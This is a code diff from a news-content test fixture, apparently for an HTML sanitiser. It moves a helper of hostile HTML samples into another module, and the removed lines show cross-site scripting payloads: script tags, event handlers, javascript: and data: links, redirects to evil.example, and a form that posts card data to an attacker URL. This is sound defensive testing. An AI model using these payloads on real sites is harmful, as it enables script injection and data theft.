@@ -6,7 +6,7 @@
  * - 12: no image. 4, 11, 19, 27: absolute image URLs. 14 and 15: the same date (id breaks the tie).
  * - 21: an inline <img> in the content.
  */
-import { html, type Block } from './html';
+import { hostile, html, youtube } from './html';
 import { doc, tx } from './text';
 import { SELF, t, type RawNews, type T } from './types';
 
@@ -16,29 +16,6 @@ function news(id: number, date: string, title: T, content: T, image: Image = 're
   const path = `/uploads/news/${id}.jpg`;
   return { id, title, content, date, image: image === 'none' ? null : image === 'absolute' ? SELF + path : path };
 }
-
-const youtube = (id: string) =>
-  `<p><iframe width="560" height="315" src="https://www.youtube.com/embed/${id}" title="YouTube video player" frameborder="0" allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture" allowfullscreen></iframe></p>`;
-
-const hostile = (heading: string, para: string, items: [string, string], cells: [string, string]): Block[] => [
-  { h2: heading },
-  `${para} <strong>OK</strong> <em>OK</em>`,
-  { raw: '<script>window.__xss = 1</script>' },
-  { raw: '<p><img src="x" onerror="window.__xss = 2" alt="broken"></p>' },
-  { raw: '<p><a href="javascript:window.__xss = 3">javascript: link</a> · <a href="JaVaScRiPt:window.__xss=7">mixed case</a> · <a href="  javascript:window.__xss=8">leading spaces</a></p>' },
-  { raw: '<p><a href="data:text/html,%3Cscript%3Ewindow.__xss%3D4%3C%2Fscript%3E">data: link</a></p>' },
-  { raw: '<iframe src="https://evil.example/" width="300" height="150"></iframe>' },
-  { raw: '<form action="https://evil.example/steal" method="post"><input name="card" autofocus onfocus="window.__xss = 9"><button type="submit">Send</button></form>' },
-  { raw: '<svg onload="window.__xss = 5"><circle cx="10" cy="10" r="10"></circle></svg>' },
-  { raw: '<style>body { display: none !important; } .x { background: url("javascript:window.__xss=10") }</style>' },
-  { raw: '<p onclick="window.__xss = 6" style="position:fixed;inset:0">click anywhere</p>' },
-  { raw: '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">' },
-  { raw: '<object data="javascript:window.__xss=11"></object><embed src="javascript:window.__xss=12">' },
-  { ul: items },
-  { table: { head: ['A', 'B'], rows: [cells, [1, 2]] } },
-  { raw: '<p><a href="https://www.the-afc.com/" target="_blank">AFC</a></p>' },
-  { raw: youtube('Hn5cW2yPq7U') },
-];
 
 export const HAND_WRITTEN_NEWS: RawNews[] = [
   news(
